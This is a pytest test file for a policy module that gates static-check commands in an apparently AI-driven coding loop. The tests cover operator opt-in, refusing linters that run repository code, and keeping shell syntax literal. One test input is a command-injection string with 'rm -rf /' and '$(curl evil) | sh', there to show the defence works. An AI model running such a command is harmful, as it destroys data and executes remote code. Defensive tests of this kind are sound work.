from __future__ import annotations

from services.loop.policy.static_check import (
    MAX_OUTPUT_CHARS,
    plan_static_check,
    should_run_static_check,
    trim_output,
)

ON = {"AI_CODING_STATIC_CHECK": "1"}


def test_nothing_runs_without_the_operators_opt_in() -> None:
    plan = plan_static_check(["ruff check ."], {})
    assert plan.argvs == []
    assert "AI_CODING_STATIC_CHECK=1" in plan.refused[0]


def test_the_default_command_is_ruff() -> None:
    assert plan_static_check(None, ON).argvs == [["ruff", "check", "."]]


def test_shell_syntax_stays_literal_arguments() -> None:
    plan = plan_static_check(["ruff check . ; rm -rf / && $(curl evil) | sh"], ON)
    assert plan.argvs == [["ruff", "check", ".", ";", "rm", "-rf", "/", "&&", "$(curl", "evil)", "|", "sh"]]


def test_programs_that_execute_repository_code_are_refused() -> None:
    plan = plan_static_check(["cargo check", "go vet ./...", "eslint .", "pylint src", "make lint", "mypy src"], ON)
    assert plan.argvs == [["mypy", "src"]]
    assert len(plan.refused) == 5


def test_a_path_to_a_program_is_refused_even_if_named_like_a_linter() -> None:
    plan = plan_static_check(["./ruff check .", "/tmp/evil/ruff ."], ON)
    assert plan.argvs == [] and len(plan.refused) == 2


def test_an_unbalanced_quote_is_refused_not_crashed() -> None:
    assert plan_static_check(["ruff 'check"], ON).refused[0].startswith("ruff 'check: cannot be split")


def test_it_runs_once_per_turn_only_at_l2_and_never_on_the_last_step() -> None:
    assert should_run_static_check(2, 8, 10, already_ran=False)
    assert not should_run_static_check(2, 8, 10, already_ran=True)
    assert not should_run_static_check(1, 4, 10, already_ran=False)
    assert not should_run_static_check(2, 10, 10, already_ran=False)


def test_long_output_is_cut_with_a_count() -> None:
    out = trim_output("x" * (MAX_OUTPUT_CHARS + 50))
    assert out.endswith("[... 50 more characters]")
    assert trim_output("short") == "short"
